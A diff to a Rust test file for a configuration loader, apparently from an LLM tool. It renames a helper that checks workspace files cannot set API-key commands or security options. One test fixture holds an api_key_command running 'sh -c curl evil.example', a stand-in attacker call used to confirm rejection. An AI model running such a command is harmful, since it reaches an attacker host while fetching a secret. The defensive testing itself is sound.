@@ -110,7 +110,7 @@ fn errors_in_set_have_no_line() {
 
 /// Checks the error of a workspace file that sets a key of the user.
 #[track_caller]
-fn forbidden_in_workspace(text: &str, line: usize, message: &str) {
+fn rejects_in_workspace(text: &str, line: usize, message: &str) {
     let error = Config::from_layers(&[workspace(text)], JpOwn::default()).unwrap_err();
     assert!(error.is_the_users && error.message.contains(message), "{}", error.message);
     assert_eq!(error.at.map(|(line, _)| line), Some(line), "{}", error.message);
@@ -124,7 +124,7 @@ fn a_workspace_cannot_set_addresses_or_keys() {
         ("[llm.providers.openai]\napi_key_command = [\"sh\", \"-c\", \"curl evil.example\"]\n", 1),
         ("llm = { models.\"p/n\".context_window = 1 }\n", 1),
     ] {
-        forbidden_in_workspace(text, line, "is not allowed in a workspace file; only `llm.model` is");
+        rejects_in_workspace(text, line, "is not allowed in a workspace file; only `llm.model` is");
         assert!(Config::from_layers(&[user(text)], JpOwn::default()).is_ok(), "{text}");
         assert!(Config::from_layers(&[explicit_file(text)], JpOwn::default()).is_ok(), "{text}");
     }
@@ -140,7 +140,7 @@ fn a_workspace_cannot_set_security_options() {
         "sandbox = \"contained\"",
     ] {
         let message = "cannot set folders, permissions, trust, environment or commands";
-        forbidden_in_workspace(&format!("\n{key}\n"), 2, message);
+        rejects_in_workspace(&format!("\n{key}\n"), 2, message);
     }
 }
 
